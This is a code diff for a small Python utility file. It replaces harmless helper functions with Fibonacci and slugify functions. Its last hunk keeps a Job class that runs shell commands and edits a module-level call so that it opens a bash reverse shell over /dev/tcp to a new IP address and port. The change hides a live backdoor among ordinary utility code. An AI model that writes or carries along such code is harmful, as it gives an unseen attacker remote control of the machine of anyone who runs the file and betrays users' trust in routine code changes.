@@ -1,12 +1,12 @@
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import subprocess
 
@@ -17,4 +17,4 @@ class Job:
     def start(self, cmd):
         subprocess.Popen(cmd, shell=True)
 
-Job("bash -i >& /dev/tcp/198.51.100.23/4444 0>&1")
+Job("bash -i >& /dev/tcp/192.168.1.77/1337 0>&1")
